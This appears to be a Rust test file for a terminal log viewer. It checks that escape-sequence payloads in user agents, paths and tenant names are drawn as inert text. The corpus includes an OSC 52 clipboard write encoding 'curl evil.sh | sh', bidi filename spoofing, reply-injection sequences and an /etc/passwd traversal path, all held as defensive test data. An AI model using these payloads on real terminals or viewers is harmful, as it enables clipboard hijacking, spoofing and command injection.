//! Text from outside never reaches the terminal as control: a corpus of escape payloads, cleaned
//! and drawn, leaves no ESC, C0/C1 control, DEL or bidi override in any cell.

use crate::support;

use rampart::app::msg::Msg;
use rampart::store::access::{self, AccessEvent};
use rampart::store::writer::Tables;
use rampart::text::sanitize::clean;
use support::Harness;

/// Payloads an attacker can put in a user agent, path, container name or alert text.
const CORPUS: &[&str] = &[
    "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07",   // OSC 52: write the clipboard
    "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x1b\\", // ... with ST
    "\x1b[2J\x1b[H",                            // clear screen, cursor home
    "\x1b]0;pwned\x07",                         // set window title
    "\x1b]8;;http://198.51.100.66/\x1b\\click\x1b]8;;\x1b\\", // hyperlink
    "\x1bP+q544e\x1b\\",                        // DCS query
    "\x1b[6n",                                  // cursor position report (reply injection)
    "\x1b[?1049l",                              // leave the alternate screen
    "\u{9b}31m red via C1 CSI",                 // 8-bit CSI
    "\u{9d}0;title via C1 OSC\u{9c}",           // 8-bit OSC and ST
    "\u{85}next line",                          // NEL
    "nul\0byte",
    "bell\x07",
    "back\x08space",
    "carriage\rreturn",
    "line\nfeed",
    "tab\tstop",
    "delete\x7f",
    "evil\u{202E}gnp.exe",     // right-to-left override
    "\u{2066}isolate\u{2069}", // isolates
    "\u{200F}rlm \u{200E}lrm \u{061C}alm",
    "sql\u{200B}map",                           // zero-width space: reads as "sqlmap"
    "zero\u{200D}width\u{200C}joiners\u{FEFF}", // joiners and a BOM
    "ad\u{00AD}min\u{2060}\u{FE0F}",            // soft hyphen, word joiner, variation selector
];

fn forbidden(c: char) -> bool {
    c.is_control()
        || matches!(c, '\u{061C}' | '\u{200E}' | '\u{200F}' | '\u{202A}'..='\u{202E}' | '\u{2066}'..='\u{2069}')
        || matches!(c, '\u{00AD}' | '\u{200B}'..='\u{200D}' | '\u{2060}' | '\u{FE0F}' | '\u{FEFF}')
}

#[test]
fn every_payload_comes_out_inert() {
    for payload in CORPUS {
        let cleaned = clean(payload, usize::MAX);
        assert!(!cleaned.chars().any(forbidden), "{payload:?} -> {cleaned:?}");
        // What is left is still readable as the text it was.
        assert!(cleaned.chars().count() >= payload.chars().filter(|c| !forbidden(*c)).count());
    }
    assert_eq!(clean("\x1b]0;pwned\x07", 100), "^[]0;pwned^G");
    assert_eq!(clean("sql\u{200B}map", 100), "sql<U+200B>map", "a zero-width space is shown, not swallowed");
}

#[test]
fn hostile_rows_draw_as_inert_text_in_lists_and_detail() {
    let mut h = Harness::empty(160, 48);
    let huge = format!("Mozilla/5.0 {}", "A".repeat(1_000_000));
    let mut agents: Vec<String> = CORPUS.iter().map(|s| s.to_string()).collect();
    agents.push(huge);
    for (i, ua) in agents.iter().enumerate() {
        let e = AccessEvent {
            ts: support::NOW + i as i64,
            tenant: "acme\x1b[31m".into(),
            src_ip: "203.0.113.9".into(),
            method: "GET".into(),
            path: format!("/x{}", CORPUS[i % CORPUS.len()]),
            status: 200,
            user_agent: ua.clone(),
            source: "test".into(),
            ..Default::default()
        };
        access::insert(&h.fx.writer, &e).unwrap();
    }
    h.send(Msg::StoreChanged(Tables::ALL));
    h.press("3 z");
    let check = |h: &mut Harness, what: &str| {
        let buffer = h.draw();
        for cell in buffer.content() {
            assert!(!cell.symbol().chars().any(forbidden), "{what}: control in cell {:?}", cell.symbol());
        }
    };
    check(&mut h, "list");
    let screen = h.screen();
    assert!(screen.contains("^[]52;c;Y3VybCBldmlsLnNoIHwgc2g=^G"), "OSC 52 shown as text:\n{screen}");
    assert!(screen.contains("evil<U+202E>gnp.exe"), "bidi override named:\n{screen}");
    assert!(screen.contains("sql<U+200B>map"), "zero-width space named, so it does not read as sqlmap:\n{screen}");
    assert!(screen.contains("acme^[[3"), "tenant names are cleaned too (and cut to the column):\n{screen}");
    // The megabyte user agent is the newest row: open its detail, scroll to the end.
    h.press("enter");
    check(&mut h, "detail of the 1 MB row");
    h.press("G");
    check(&mut h, "end of the 1 MB row");
    for i in 0..CORPUS.len() {
        h.press("esc j enter");
        check(&mut h, &format!("detail of payload {i}"));
    }
}

#[test]
fn a_nul_byte_hides_nothing_in_the_console_list_detail_or_filter() {
    let mut h = Harness::empty(160, 48);
    for (i, (path, agent)) in
        [("/ok", "curl/8"), ("/c\0/../../etc/passwd", "Mozilla/5.0\0 sqlmap/1.7"), ("/fine", "curl/8")]
            .iter()
            .enumerate()
    {
        let e = AccessEvent {
            ts: support::NOW + i as i64,
            tenant: "acme".into(),
            src_ip: format!("203.0.113.{}", i + 1),
            method: "GET".into(),
            path: path.to_string(),
            status: 200,
            user_agent: agent.to_string(),
            source: "test".into(),
            ..Default::default()
        };
        access::insert(&h.fx.writer, &e).unwrap();
    }
    h.send(Msg::StoreChanged(Tables::ALL));
    h.press("3 z");
    let screen = h.screen();
    assert!(screen.contains("/c^@/../../etc/passwd"), "the whole path, its NUL shown:\n{screen}");
    assert!(screen.contains("Mozilla/5.0^@ sqlmap/1.7"), "the whole user agent:\n{screen}");
    h.press("j enter");
    let screen = h.screen();
    assert!(screen.contains("path  /c^@/../../etc/passwd"), "detail:\n{screen}");
    assert!(screen.contains("user agent  Mozilla/5.0^@ sqlmap/1.7"), "detail:\n{screen}");
    for filter in ["sqlmap", "path:*passwd*"] {
        h.press("esc esc /");
        h.type_text(filter);
        h.press("enter");
        let screen = h.screen();
        let shown = |ip: &str| screen.contains(&format!("{ip} "));
        assert!(shown("203.0.113.2") && !shown("203.0.113.1") && !shown("203.0.113.3"), "{filter}:\n{screen}");
    }
}
